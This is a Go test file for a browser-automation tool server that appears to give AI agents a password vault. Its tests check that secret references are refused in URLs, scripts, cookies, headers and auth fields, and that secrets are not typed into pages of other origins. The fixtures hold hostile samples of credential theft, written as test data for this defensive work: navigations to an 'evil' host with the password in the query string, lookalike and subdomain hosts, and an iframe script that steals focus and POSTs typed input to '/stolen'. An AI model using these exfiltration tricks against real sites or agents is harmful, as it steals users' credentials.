package attacks_test

import (
	"net/http"
	"strings"

	"github.com/callsheet/callsheet/internal/tooltest"
)

// sessions are the transports that take arguments of any form, and everywhere those that can type a secret.
var (
	sessions   = []transport{overStdio, overHTTP}
	everywhere = []transport{overStdio, overHTTP, overCommands}
)

// misplaced is an attack that names the secret in an argument which is no text to type.
func misplaced(name, code, tool string, on []transport, make func(s *bankSite) args) attack {
	return attack{
		name: "secrets_in_" + name, about: "a call names a secret in an argument that is typed nowhere; it is refused and the value goes nowhere",
		with: guarded, on: on, run: func(c *client) {
			s := newBankSite(c)
			c.ok("navigate", args{"url": s.bankURL("/other")})
			c.refused(code, tool, make(s), "secret")
			s.keeps(c)
		},
	}
}

// Attacks by arguments in which no secret may be.
var _ = add(
	misplaced("address", "POLICY_DENIED", "navigate", everywhere, func(s *bankSite) args { return args{"url": s.url("evil", "/?"+namedPassword)} }),
	misplaced("script", "POLICY_DENIED", "javascript_tool", everywhere, func(*bankSite) args { return args{"code": "'" + namedPassword + "'"} }),
	misplaced("query", "POLICY_DENIED", "find", everywhere, func(*bankSite) args { return args{"query": namedPassword} }),
	misplaced("cookie", "POLICY_DENIED", "cookies", sessions, func(*bankSite) args { return args{"action": "set", "name": "a", "value": namedPassword} }),
	misplaced("storage", "POLICY_DENIED", "storage", sessions, func(*bankSite) args {
		return args{"storageType": "local", "action": "set", "key": "a", "value": namedPassword}
	}),
	misplaced("replaced_body", "POLICY_DENIED", "request_intercept", sessions, func(*bankSite) args {
		return args{"action": "add", "do": "fulfill", "pattern": "*", "body": namedPassword}
	}),
	misplaced("request_header", "POLICY_DENIED", "request_intercept", sessions, func(*bankSite) args {
		return args{"action": "add", "do": "modify_request", "pattern": "*", "headers": []string{"X-A: " + namedPassword}}
	}),
	misplaced("step_address", "INVALID_ARGUMENTS", "act", sessions, func(s *bankSite) args {
		return args{"steps": []any{args{"action": "navigate", "value": s.url("evil", "/?"+namedPassword)}}}
	}),
	misplaced("step_expectation", "INVALID_ARGUMENTS", "act", sessions, func(*bankSite) args {
		return args{"steps": []any{args{"action": "expect", "value": namedPassword}}}
	}),
	misplaced("step_wait", "INVALID_ARGUMENTS", "act", sessions, func(*bankSite) args {
		return args{"steps": []any{args{"action": "wait", "value": namedPassword}}}
	}),
	misplaced("keys", "INVALID_ARGUMENTS", "computer", sessions, func(*bankSite) args { return args{"action": "key", "text": namedPassword} }),
	misplaced("auth_user", "POLICY_DENIED", "http_auth", sessions, func(s *bankSite) args {
		return args{"action": "set", "username": namedPassword, "password": "x", "origin": s.url("evil", "")}
	}),
	misplaced("auth_anywhere", "INVALID_ARGUMENTS", "http_auth", sessions, func(*bankSite) args {
		return args{"action": "set", "username": "ann", "password": namedPassword}
	}),
	misplaced("auth_of_other", "POLICY_DENIED", "http_auth", sessions, func(s *bankSite) args {
		return args{"action": "set", "username": "ann", "password": namedPassword, "origin": s.url("evil", "")}
	}),
	attack{
		name: "secrets_in_batch", about: "tasks of a batch name a secret in a script and in an address; each is refused", with: guarded, on: sessions,
		run: func(c *client) {
			s := newBankSite(c)
			tab := tooltest.TabID(c.ok("navigate", args{"url": s.bankURL("/other")}))
			got := c.call("batch_execute", args{"tasks": []any{
				args{"tabId": tab, "script": "'" + namedPassword + "'"}, args{"tabId": tab, "tool": "navigate", "args": args{"url": s.url("evil", "/?"+namedPassword)}},
			}})
			if n := strings.Count(got.text, "takes no secret"); n < 2 {
				c.Errorf("%d tasks are refused: %s", n, got.text)
			}
			s.keeps(c)
		},
	},
	attack{
		name: "secrets_in_workflow", about: "an argument of a workflow names a secret, and a step puts it into an address", with: guarded, on: sessions,
		run: func(c *client) {
			s := newBankSite(c)
			c.ok("navigate", args{"url": s.bankURL("/other")})
			got := c.call("opens_address", args{"to": s.url("evil", "/?") + namedPassword})
			if !got.refused || !strings.Contains(got.text, "takes no secret") {
				c.Errorf("%+v", got)
			}
			s.keeps(c)
		},
	},
	attack{
		name: "secrets_split", about: "a reference is split over two fields; the page gets the parts as they are", with: guarded, on: sessions,
		run: func(c *client) {
			s := newBankSite(c)
			s.page("evil", "/two", `<label>One <input id=a></label><label>Two <input id=b></label>`)
			c.ok("navigate", args{"url": s.url("evil", "/two")})
			c.ok("fill_form", args{"fields": []any{args{"query": "One", "value": "{secret:PASS"}, args{"query": "Two", "value": "WORD}"}}})
			if got := c.script("a.value + b.value"); !strings.Contains(got, namedPassword) {
				c.Errorf("the page has %s", got)
			}
			s.keeps(c)
		},
	},
	attack{
		name: "secrets_spelt_otherwise", about: "references are encoded or written in other letters; they are text", with: guarded, on: sessions,
		run: func(c *client) {
			s := newBankSite(c)
			c.ok("navigate", args{"url": s.bankURL("/login")})
			for _, text := range []string{"%7Bsecret:PASSWORD%7D", "{SECRET:PASSWORD}", "{secret :PASSWORD}", "{secret%3APASSWORD}", "&#123;secret:PASSWORD}"} {
				c.ok("form_input", args{"query": "Password", "value": text})
				if got := s.bankGot(); got != text {
					c.Errorf("%s is typed as %q", text, got)
				}
			}
			s.keeps(c)
		},
	},
)

// elsewhere is an attack by a document that is not of the origin of the secret.
func elsewhere(name, about string, open func(s *bankSite) string) attack {
	return attack{name: "secrets_into_" + name, about: about, with: guarded, on: sessions, run: func(c *client) {
		s := newBankSite(c)
		c.ok("navigate", args{"url": open(s)})
		c.refused("POLICY_DENIED", "form_input", args{"query": "Password", "value": namedPassword}, "bound to")
		if c.on != overCommands {
			c.refused("POLICY_DENIED", "act", args{"steps": []any{args{"action": "type", "query": "Password", "value": namedPassword}}}, "bound to")
			c.refused("POLICY_DENIED", "fill_form", args{"fields": []any{args{"query": "Password", "value": "x" + namedPassword}}}, "bound to")
		}
		s.keeps(c)
		if got := s.bankGot(); strings.Contains(got, vaultPassword) {
			c.Errorf("the secret was typed: %q", got)
		}
	}}
}

// Attacks by documents of other origins.
var _ = add(
	elsewhere("other_origin", "a page of another origin asks for the password", func(s *bankSite) string { return s.url("evil", "/login") }),
	elsewhere("redirected", "the bank redirects to another origin, which asks for the password", func(s *bankSite) string {
		s.origins["bank"].mux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, s.url("evil", "/login"), http.StatusFound)
		})
		return s.bankURL("/go")
	}),
	elsewhere("replaced", "the bank's page sends the tab to another origin by script", func(s *bankSite) string {
		s.bankPage("/leave", `<script>location.replace("{evil}/login")</script>`)
		return s.bankURL("/leave")
	}),
	elsewhere("frame", "an advertisement in the bank's page asks for the password", func(s *bankSite) string {
		s.bankPage("/ad", `<title>Bank</title><iframe title=ad src="{evil}/login"></iframe>`)
		return s.bankURL("/ad")
	}),
	elsewhere("sandboxed_frame", "a sandboxed document of the bank asks for the password", func(s *bankSite) string {
		s.bankPage("/box", `<title>Bank</title><iframe title=box sandbox="allow-scripts" src="{ID}/login"></iframe>`)
		return s.bankURL("/box")
	}),
	elsewhere("data_frame", "a data: document in the bank's page asks for the password", func(s *bankSite) string {
		s.bankPage("/data", `<title>Bank</title><iframe title=data src="data:text/html,<label>Password <input></label>"></iframe>`)
		return s.bankURL("/data")
	}),
	elsewhere("other_port", "another server on the bank's host asks for the password", func(s *bankSite) string {
		return strings.Replace(s.url("evil", "/login"), "evil.", "bank.", 1)
	}),
	elsewhere("host_below", "a host below the bank's asks for the password", func(s *bankSite) string {
		return strings.Replace(s.bankURL("/login"), "bank.", "evil.bank.", 1)
	}),
	elsewhere("host_alike", "a host whose name begins like the bank's asks for the password", func(s *bankSite) string {
		return strings.Replace(s.bankURL("/login"), "bank.localhost", "bank.localhost.localhost", 1)
	}),
	attack{
		name: "secrets_into_thief_of_focus", about: "a frame of another origin takes the focus again and again; it gets nothing of a secret that is typed beside it",
		with: guarded, on: sessions, run: func(c *client) {
			s := newBankSite(c)
			s.page("evil", "/thief", `<input id=t><script>t.oninput = () => { const x = new XMLHttpRequest(); x.open('POST', '/stolen', false); x.send(t.value); };
				setInterval(() => t.focus(), 1);</script>`)
			s.bankPage("/thief", loginForm+`<iframe title=ad src="{evil}/thief"></iframe>`)
			c.ok("navigate", args{"url": s.bankURL("/thief")})
			for range 3 {
				c.call("form_input", args{"query": "Password", "value": namedPassword})
				c.call("act", args{"steps": []any{args{"action": "type", "query": "Password", "value": namedPassword}}})
			}
			for line := range strings.SplitSeq(s.requested(), "\n") {
				if _, got, stolen := strings.Cut(line, "/stolen "); stolen && got != "" {
					c.Errorf("the frame got %q", got)
				}
			}
			s.keeps(c)
		},
	},
	attack{
		name: "secrets_into_its_origin", about: "an ordinary login gets the password, also in a frame of another site", with: guarded, on: sessions,
		run: func(c *client) {
			s := newBankSite(c)
			s.page("evil", "/around", `<title>Shop</title><iframe title=bank src="`+s.bankURL("/login")+`"></iframe>`)
			for _, address := range []string{s.bankURL("/login"), s.url("evil", "/around")} {
				c.ok("navigate", args{"url": address})
				c.ok("form_input", args{"query": "Password", "value": "a" + namedPassword})
				if got := s.bankGot(); got != "a"+vaultPassword {
					c.Errorf("at %s the bank got %q", address, got)
				}
				c.ok("form_input", args{"query": "Password", "value": ""})
			}
			s.keeps(c)
		},
	},
)
